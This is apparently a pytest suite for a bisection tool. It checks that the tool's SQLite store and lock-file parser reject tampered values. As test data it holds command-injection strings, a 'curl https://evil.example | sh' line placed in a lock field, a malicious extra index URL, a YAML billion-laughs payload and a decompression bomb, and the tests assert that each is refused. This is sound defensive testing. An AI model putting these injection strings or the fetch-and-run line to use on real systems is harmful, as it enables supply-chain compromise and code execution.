"""Valid databases with values that we never write: named by row and column, and used by nobody."""

from __future__ import annotations

import contextlib
import hashlib
import json
import random
import sqlite3
import subprocess
import sys
import zlib
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import event

from bisect_env.answers.chapters import CommitReport, NamedCommit, TracedReport
from bisect_env.answers.verdict_document import VerdictDocument
from bisect_env.engine.stored import matrix_of, note_asked, refuse_strangers
from bisect_env.environments.lock import LockedPackage, LockFileError
from bisect_env.environments.lockfiles import make_lock, parse_lock
from bisect_env.errors import BisectEnvError, ExitCode, StorageError, UsageError
from bisect_env.matrix.files import StudyFile
from bisect_env.matrix.load import load_matrix
from bisect_env.report import formats
from bisect_env.report.build import load_report
from bisect_env.storage import maintenance, transfer
from bisect_env.storage.entries import AMPLIFIED, COMMIT, TRACED, Study
from bisect_env.storage.store import Store
from bisect_env.storage.tables import METADATA
from bisect_env.trials.judge import ChangedEnvironment
from bisect_env.trials.records import UNKNOWN_MACHINE
from tests.storage.samples import (
    combination,
    definition,
    lock,
    opened_study,
    record,
    record_trial,
    whole_record,
)

RATE = {"hits": 1, "trials": 1, "rate": 1.0, "low": 0.05, "high": 1.0}
VERDICT: dict[str, Any] = {
    "status": "confirmed",
    "reason": "",
    "kind": "all",
    "first_bad": {"orjson": "2.0"},
    "last_good": {"orjson": "1.0"},
    "culprit_axes": ["orjson"],
    "bad_values": {"orjson": ["2.0"]},
    "directions": {"orjson": "regression"},
    "probability": 0.97,
    "boundaries": [],
    "bad_rate": RATE,
    "good_rate": {**RATE, "hits": 0, "rate": 0.0},
    "candidates": [],
    "ends_wrong": [],
    "trials": 2,
    "expected_left": 0.0,
    "chance_of_luck": 0.01,
    "monotone": True,
    "unexplained": [],
    "untested": [],
}


def fill(path: Path) -> str:
    with Store.open(str(path)) as store:
        study = opened_study(store)
        record_trial(store, study.id, whole_record(), trial_key="k")
        record_trial(store, study.id, record("1.0"))
        store.record_decision(study.id, AMPLIFIED, {"perturbation": {}, "signature": ""})
        store.record_decision(study.id, "built", {"lock": lock("2.0").content_hash, "seconds": 1.5})
        now = datetime.now(UTC)
        named = NamedCommit(commit="a" * 40)
        chapters = {
            TRACED: TracedReport(sentence="it is orjson"),
            COMMIT: CommitReport(
                axis="orjson", package="orjson", commit="b" * 40, authored=now, committed=now, last_good=named
            ),
        }
        for kind, chapter in chapters.items():
            store.record_decision(study.id, kind, chapter.model_dump(mode="json"))
        store.study_trials(study.id).note_change(ChangedEnvironment(lock("2.0").content_hash, "h", now, now))
        other = opened_study(store, digest="e" * 64)
        store.study_trials(other.id).reuse({"k": combination("2.0")}, [UNKNOWN_MACHINE])
        assert len(store.trials(other.id)) == 1
        store.update_study(study.id, "finished", VerdictDocument.model_validate(VERDICT))
        return study.id


def look_at(store: Store, study_id: str) -> None:
    """What people see of a database, in every way."""
    for study in store.studies():
        report = load_report(store, study.id)
        for form in ("text", "md", "json", "junit"):
            formats.formatted(report, form)
        for state in store.combinations(study.id):
            if state.lock_hash:
                store.lock(state.lock_hash)
        for trial in store.trials(study.id):
            store.trial(trial.trial_id)
    store.study(study_id)


def use(path: Path, study_id: str, copy: Path) -> None:
    """What people do with a database: look at it in every way, and take it over into another."""
    with Store.open(str(path), read_only=True) as store:
        look_at(store, study_id)
    transfer.merge_databases(str(copy), str(path))
    maintenance.problems(str(path))


def changed(path: Path, statement: str, *parameters: object) -> None:
    with contextlib.closing(sqlite3.connect(path)) as connection:
        connection.execute(statement, parameters)
        connection.commit()


WRONG: list[object] = [
    None,
    0,
    -1,
    2**62,
    1.5,
    "",
    "x",
    "null",
    "[]",
    "{}",
    "[1]",
    '{"a": 1}',
    '"text"',
    "[[[",
    "NaN",
    '{"x": NaN}',
    '["\\ud800"]',
    "[" * 5000,
    "9" * 5000,
    b"\x00\xff",
    "2026-13-45 00:00:00",
    ";touch PWN;#",
    "\x1b[31m\n",
]


def damages() -> Iterator[tuple[str, str, object]]:
    for table in METADATA.sorted_tables:
        if table.name in ("meta", "claims"):
            continue
        for column in table.columns:
            for value in WRONG:
                yield table.name, column.name, value


@pytest.fixture(scope="module")
def original(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    path = tmp_path_factory.mktemp("damage") / "results.sqlite"
    return path, fill(path)


def empty_database(folder: Path) -> bytes:
    """To be copied: making one takes longer than all that is done with it."""
    path = folder / "empty.sqlite"
    Store.open(str(path)).close()
    return path.read_bytes()


def damage_and_use(original: tuple[Path, str], folder: Path, chosen: list[tuple[str, str, object]]) -> int:
    """How many of the damages were named.

    The databases stay open and are filled again, and no disk is waited for: both would take longer than
    all that is done with them.
    """
    named = 0
    whole, study_id = original
    empty, damaged, copy = (folder / f"{name}.sqlite" for name in ("empty", "damaged", "copy"))
    for path in (empty, damaged, copy):
        Store.open(str(path)).close()
    source, target = (Store.open(str(path), read_only=path == damaged) for path in (damaged, copy))
    with contextlib.ExitStack() as closing:
        connections = [
            closing.enter_context(contextlib.closing(sqlite3.connect(p)))
            for p in (whole, empty, damaged, copy)
        ]
        unhurt, nothing, hurt, received = connections
        for connection in connections:
            connection.execute("PRAGMA synchronous = OFF")
        event.listen(
            target.database.engine,
            "connect",
            lambda connection, _: connection.execute("PRAGMA synchronous = OFF"),
        )
        closing.enter_context(source)
        closing.enter_context(target)
        for table, column, value in chosen:
            unhurt.backup(hurt)
            nothing.backup(received)
            if not has_changed(hurt, table, column, value):
                continue
            try:
                look_at(source, study_id)
                transfer.merge(source, target)
                maintenance.problems(str(damaged))
            except BisectEnvError as error:
                named += error.exit_code in (ExitCode.INFRASTRUCTURE, ExitCode.USAGE)
            except Exception as error:
                raise AssertionError(f"{table}.{column} = {value!r:.80}") from error
    return named


def has_changed(connection: sqlite3.Connection, table: str, column: str, value: object) -> bool:
    """Put a value into every row; False where the schema does not let it in, or it was there before."""
    look = f'SELECT typeof("{column}"), "{column}" FROM "{table}"'
    before = connection.execute(look).fetchall()
    try:
        connection.execute(f'UPDATE "{table}" SET "{column}" = ?', [value])
    except sqlite3.IntegrityError:
        connection.rollback()
        return False
    connection.commit()
    return connection.execute(look).fetchall() != before


@pytest.mark.slow
def test_whatever_stands_in_a_column_ends_in_words(original: tuple[Path, str], tmp_path: Path) -> None:
    seed = random.randrange(10**9)
    print(f"seed {seed}")
    # Of 40 some ten are named, and four in all but one of ten thousand samples.
    chosen = random.Random(seed).sample(list(damages()), 40)
    assert damage_and_use(original, tmp_path, chosen) > 3


def test_no_axes_an_infinite_time_and_a_signature_that_is_too_deep(
    original: tuple[Path, str], tmp_path: Path
) -> None:
    chosen: list[tuple[str, str, object]] = [
        ("studies", "grid", "[]"),
        ("trials", "duration", "9" * 5000),
        ("trials", "signature", "[" * 5000),
        ("trials", "signature", 2**62),
    ]
    assert damage_and_use(original, tmp_path, chosen) >= 1


NAMED = {
    "studies": 150,
    "locks": 60,
    "packages": 100,
    "combinations": 20,
    "trials": 200,
    "study_trials": 20,
    "decisions": 40,
    "blobs": 20,
    "artefacts": 0,
    "changed_environments": 10,
}
"""At least so many of the damages of a table are named."""


@pytest.mark.slow
@pytest.mark.parametrize("table", sorted({table for table, _, _ in damages()}))
def test_every_damage_ends_in_words(original: tuple[Path, str], tmp_path: Path, table: str) -> None:
    chosen = [damage for damage in damages() if damage[0] == table]
    named = damage_and_use(original, tmp_path, chosen)
    print(table, named)
    assert named >= NAMED[table]


def use_bytes(content: bytes, empty: bytes, study_id: str, folder: Path) -> None:
    damaged, copy = folder / "damaged.sqlite", folder / "copy.sqlite"
    damaged.write_bytes(content)
    copy.write_bytes(empty)
    with contextlib.suppress(BisectEnvError):
        use(damaged, study_id, copy)
    for path in folder.glob("*.sqlite*"):
        path.unlink()


@pytest.mark.slow
def test_bytes_that_change_anywhere_end_in_words(original: tuple[Path, str], tmp_path: Path) -> None:
    seed = random.randrange(10**9)
    print(f"seed {seed}")
    world = random.Random(seed)
    path, study_id = original
    content, empty = path.read_bytes(), empty_database(tmp_path)
    for _ in range(12):
        changed_bytes = bytearray(content)
        for _ in range(world.choice((1, 5, 50))):
            changed_bytes[world.randrange(len(content))] = world.randrange(256)
        use_bytes(bytes(changed_bytes), empty, study_id, tmp_path)


@pytest.mark.slow
def test_a_row_that_its_index_finds_under_another_name_is_damage(
    original: tuple[Path, str], tmp_path: Path
) -> None:
    """The index of `study_id` leads to a row in which another study stands."""
    path, study_id = original
    content, stored = path.read_bytes(), study_id.encode()
    found, places = content.find(stored), 0
    while found >= 0:
        other = content[:found] + b"f" * len(stored) + content[found + len(stored) :]
        use_bytes(other, empty_database(tmp_path), study_id, tmp_path)
        found, places = content.find(stored, found + 1), places + 1
    assert places > 5


def test_a_schema_that_is_no_text_is_damage(original: tuple[Path, str], tmp_path: Path) -> None:
    """SQLite quotes it in a message that Python cannot read."""
    path, study_id = original
    content, empty = path.read_bytes(), empty_database(tmp_path)
    damaged = content.replace(b"CREATE TABLE studies", b"CREATE T\xc4BLE studies")
    assert damaged != content
    use_bytes(damaged, empty, study_id, tmp_path)
    (tmp_path / "again.sqlite").write_bytes(damaged)
    with pytest.raises(StorageError, match="damaged"):
        use(tmp_path / "again.sqlite", study_id, tmp_path / "copy.sqlite")


def test_documents_with_parts_that_are_wrong_end_in_words(original: tuple[Path, str], tmp_path: Path) -> None:
    seed = random.randrange(10**9)
    print(f"seed {seed}")
    world = random.Random(seed)
    parts = [None, 0, "x", [], {}, [None], {"a": None}, True, -1.5]
    path, study_id = original
    content, empty = path.read_bytes(), empty_database(tmp_path)
    for number in range(16):
        verdict = json.loads(json.dumps(VERDICT))
        for key in world.sample(sorted(verdict), 2):
            verdict[key] = world.choice(parts)
        damaged = tmp_path / f"{number}.sqlite"
        damaged.write_bytes(content)
        copy = tmp_path / f"{number}-copy.sqlite"
        copy.write_bytes(empty)
        changed(damaged, "UPDATE studies SET verdict = ?", json.dumps(verdict))
        try:
            use(damaged, study_id, copy)
        except StorageError as error:
            if "' of studies, column verdict" not in error.what:
                raise
        except Exception as error:
            raise AssertionError(json.dumps(verdict)) from error


@pytest.mark.parametrize(
    ("statement", "column"),
    [
        ("UPDATE studies SET grid = 'null'", "grid"),
        ("UPDATE studies SET verdict = '[]'", "verdict"),
        ("UPDATE studies SET verdict = json_set(verdict, '$.status', 'sure')", "verdict.status"),
        ("UPDATE studies SET verdict = json_set(verdict, '$.bad_rate.low', 'x')", "verdict.bad_rate.low"),
        ("UPDATE studies SET verdict = json_set(verdict, '$.table', json('{}'))", "verdict.table.good"),
        ("UPDATE studies SET created_at = 'yesterday'", "created_at"),
        ("UPDATE studies SET updated_at = '2025-01-01T00:00:00z'", "updated_at"),
        ('UPDATE studies SET grid = \'[{"name": "a"}]\'', "grid.0.values"),
    ],
)
def test_the_row_and_the_column_are_named(
    original: tuple[Path, str], tmp_path: Path, statement: str, column: str
) -> None:
    path = tmp_path / "results.sqlite"
    path.write_bytes(original[0].read_bytes())
    changed(path, statement)
    match = rf"results.sqlite is damaged: row '[0-9a-f]{{32}}' of studies, column {column}: "
    with Store.open(str(path), read_only=True) as store, pytest.raises(StorageError, match=match) as caught:
        store.studies()
    assert caught.value.exit_code is ExitCode.INFRASTRUCTURE


@pytest.mark.parametrize(
    ("kind", "payload", "column"),
    [
        ("commit", "json_set(payload, '$.axis', 1)", "payload.axis"),
        ("commit", "json_set(payload, '$.last_good', 'x')", "payload.last_good"),
        ("traced", "json('{}')", "payload.sentence"),
        ("traced", "json('[]')", "payload"),
        ("amplify", "json_set(payload, '$.signature', 'nonsense')", "payload.signature"),
        ("amplify", "json_set(payload, '$.perturbation.copies', 'x')", "payload.perturbation.copies"),
    ],
)
def test_a_chapter_that_is_none_is_named(
    original: tuple[Path, str], tmp_path: Path, kind: str, payload: str, column: str
) -> None:
    path = tmp_path / "results.sqlite"
    path.write_bytes(original[0].read_bytes())
    changed(path, f"UPDATE decisions SET payload = {payload} WHERE kind = '{kind}'")
    match = rf"is damaged: row \d+ of decisions, column {column}: "
    with Store.open(str(path), read_only=True) as store, pytest.raises(StorageError, match=match):
        load_report(store, original[1])


EVIL = LockedPackage("orjson", "2.0", "pip", "https://evil.example/orjson-2.0.whl", "c" * 64)


@pytest.mark.parametrize(
    ("statement", "parameters"),
    [
        ("UPDATE locks SET python = ?", ["3.11\nRUN curl https://evil.example | sh"]),
        ("UPDATE locks SET platform = ?", ["linux-64\nx"]),
        ("UPDATE packages SET version = ?", ["2.0 --extra-index-url https://evil.example"]),
        ("UPDATE packages SET url = ? WHERE name = 'orjson'", [EVIL.url]),
        ("UPDATE packages SET sha256 = ?", ["d" * 64]),
        ("UPDATE locks SET text = ?", [make_lock("3.11", "linux-64", [EVIL]).text]),
        ("UPDATE locks SET text = replace(text, ?, 'evil.example')", ["files.example"]),
        ("UPDATE locks SET text = replace(text, ?, 'version: \"2.0\\nRUN id\"')", ["version: '2.0'"]),
        ("DELETE FROM packages WHERE name = ?", ["zipp"]),
    ],
)
def test_a_changed_lock_is_used_by_nobody(
    original: tuple[Path, str], tmp_path: Path, statement: str, parameters: list[str]
) -> None:
    path, copy = tmp_path / "results.sqlite", tmp_path / "mine.sqlite"
    path.write_bytes(original[0].read_bytes())
    changed(path, statement, *parameters)
    with (
        Store.open(str(path), read_only=True) as store,
        pytest.raises(StorageError, match=r"damaged: row .* of locks"),
    ):
        store.lock(lock("2.0").content_hash)
    with Store.open(str(copy)) as store:
        mine = opened_study(store, name="mine")
    merged = transfer.merge_databases(str(copy), str(path))
    assert merged.new_studies == 0
    assert len(merged.damaged) == 2
    assert all(" of locks, column " in text for text in merged.damaged)
    with Store.open(str(copy), read_only=True) as store:
        assert [study.id for study in store.studies()] == [mine.id]
        assert store.lock(lock("2.0").content_hash) == lock("2.0")


@pytest.mark.parametrize(
    "changes",
    [
        {"name": "a\nRUN id"},
        {"name": "-r evil"},
        {"version": "1 --extra-index-url https://evil.example"},
        {"version": "1;id"},
        {"sha256": "A" * 64},
        {"sha256": "a" * 63},
        {"url": "https://files.example/a.whl\nRUN id"},
        {"url": "https://\nevil.example/a.whl"},
        {"url": "https://files.example/$(id).whl"},
        {"url": "https://files.example/a';id;'.whl"},
        {"url": "ssh://files.example/a.whl"},
        {"url": "file://host/a.whl"},
        {"url": "https://files.example/%2e%2e"},
        {"url": "https://files.example/x%2f..%2f..%2fa.whl"},
        {"manager": "git"},
        {"manager": "image", "url": "--privileged"},
        {"manager": "conda", "build": "0\n0"},
        {"manager": "conda", "md5": "x"},
        {"manager": "conda", "dependencies": (("a", "b\nc"),)},
    ],
    ids=repr,
)
def test_what_no_lock_may_hold(changes: dict[str, Any]) -> None:
    plain: dict[str, Any] = {
        "name": "a",
        "version": "1",
        "manager": "pip",
        "url": "https://files.example/a.whl",
        "sha256": "a" * 64,
    }
    assert make_lock("3.11", "linux-64", [LockedPackage(**plain)]).packages
    with pytest.raises(LockFileError, match="there can be no such lock"):
        make_lock("3.11", "linux-64", [LockedPackage(**{**plain, **changes})])


@pytest.mark.timeout(20)
def test_a_lock_that_grows_while_it_is_read_is_none() -> None:
    laughs = "a0: &a0 [x]\n"
    for i in range(1, 12):
        laughs += f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]\n"
    facts = "platforms: [linux-64]\n  custom_metadata: {bisect-env.python: *a11}\n"
    text = f"{laughs}version: 1\nmetadata:\n  {facts}"
    entry = "- {name: *a11, version: '1', manager: pip, url: u, hash: {sha256: s}}\n"
    with pytest.raises(LockFileError, match="is not a lock of ours"):
        parse_lock(f"{text}  content_hash: {{linux-64: x}}\npackage:\n{entry}")


def test_a_log_that_unpacks_to_gigabytes_is_given_up(original: tuple[Path, str], tmp_path: Path) -> None:
    path = tmp_path / "results.sqlite"
    path.write_bytes(original[0].read_bytes())
    size = 4 * 2**30
    packer = zlib.compressobj(9)
    first, again = (packer.compress(bytes(2**24)) + packer.flush(zlib.Z_FULL_FLUSH) for _ in range(2))
    # Blocks between full flushes stand for themselves; only the sum at the very end is wrong.
    packed = first + again * (size // 2**24 - 1) + packer.flush()
    assert len(packed) < 5 * 10**6
    digest = hashlib.sha256(b"whatever").hexdigest()
    with contextlib.closing(sqlite3.connect(path)) as connection:
        connection.execute(
            "INSERT INTO blobs VALUES (?, ?)",
            [digest, packed],
        )
        connection.execute("UPDATE artefacts SET content_hash = ?", [digest])
        (trial_id,) = connection.execute("SELECT trial_id FROM trials ORDER BY sequence").fetchone()
        connection.commit()
    import resource

    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with (
        Store.open(str(path), read_only=True) as store,
        pytest.raises(StorageError, match="of blobs, column data"),
    ):
        store.trial(trial_id)
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 200 * 1024  # KiB


TEXT = "version: 1\nname: n\naxes: {a: {values: [0, 1]}}\ntrial: {command: python s.py, files: [s.py]}\n"


def stored_question(store: Store, folder: Path, **changes: Any) -> Study:
    """A study of a matrix and its script, in a database."""
    (folder / "matrix.yaml").write_text(TEXT, "utf-8")
    (folder / "s.py").write_text("print('hers')\n")
    loaded = load_matrix(folder / "matrix.yaml")
    facts = {"digest": loaded.digest, "matrix_text": TEXT, "files": loaded.files, **changes}
    return store.open_study(definition(**facts))


def test_a_question_comes_from_the_database_with_its_files(tmp_path: Path) -> None:
    with Store.open(str(tmp_path / "results.sqlite")) as store:
        study = stored_question(store, tmp_path)
        (tmp_path / "matrix.yaml").unlink()
        (tmp_path / "s.py").unlink()
        (file,) = matrix_of(store, study).files
    assert (file.name, file.content) == ("s.py", b"print('hers')\n")


@pytest.mark.parametrize("changes", [{"digest": "f" * 64}, {"name": "forged\nlog: x", "digest": "f" * 64}])
def test_a_question_that_is_not_what_the_study_ran_is_refused(
    tmp_path: Path, changes: dict[str, str]
) -> None:
    with Store.open(str(tmp_path / "results.sqlite")) as store:
        study = stored_question(store, tmp_path, **changes)
        with pytest.raises(UsageError, match="asked something else") as caught:
            matrix_of(store, study)
    assert "\n" not in caught.value.what


def test_a_file_of_a_study_that_was_changed_is_damage(tmp_path: Path) -> None:
    path = tmp_path / "results.sqlite"
    with Store.open(str(path)) as store:
        study = stored_question(store, tmp_path)
    with contextlib.closing(sqlite3.connect(path)) as connection:
        evil = zlib.compress(b"print('evil')\n")
        connection.execute("UPDATE blobs SET data = ?", [evil])
        connection.commit()
    with Store.open(str(path), read_only=True) as store, pytest.raises(StorageError):
        matrix_of(store, study)


def test_a_file_with_a_password_is_not_stored(tmp_path: Path) -> None:
    secret = StudyFile("s.py", b"connect('postgresql://me:hunter2@db/r')", executable=False)
    path = tmp_path / "results.sqlite"
    with Store.open(str(path)) as store:
        study = stored_question(store, tmp_path, files=(secret,))
        with pytest.raises(UsageError, match=r"s\.py holds a password") as caught:
            matrix_of(store, study)
    assert "name the matrix file" in str(caught.value.remedy)
    assert b"hunter2" not in path.read_bytes()


def test_the_question_of_somebody_else_is_not_run_because_a_database_names_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    with Store.open(str(tmp_path / "results.sqlite")) as store:
        study = stored_question(store, tmp_path)
    with pytest.raises(UsageError, match="never by you on this host") as caught:
        refuse_strangers(study)
    assert "--save FILE" in str(caught.value.remedy)
    note_asked(study.definition.digest)
    refuse_strangers(study)


def test_files_of_studies_are_kept_and_travel(tmp_path: Path) -> None:
    """The collector drops logs, never what was asked."""
    path, other = tmp_path / "results.sqlite", tmp_path / "other.sqlite"
    with Store.open(str(path)) as store:
        study = stored_question(store, tmp_path)
        store.collect(0)
        assert matrix_of(store, study).files
    transfer.merge_databases(str(other), str(path))
    with Store.open(str(other)) as store:
        assert matrix_of(store, study).files[0].content == b"print('hers')\n"


def test_locks_nested_without_end_are_damage(tmp_path: Path) -> None:
    """In a process of its own: they ended it with a segmentation fault."""
    text = "a: " + "[" * 50_000
    code = (
        "import sys; from bisect_env.environments.lockfiles import LockFileError, parse_lock\n"
        "try: parse_lock(sys.stdin.read())\nexcept LockFileError as error: print(error)"
    )
    done = subprocess.run(
        [sys.executable, "-c", code], input=text, capture_output=True, text=True, check=True
    )
    assert "levels" in done.stdout
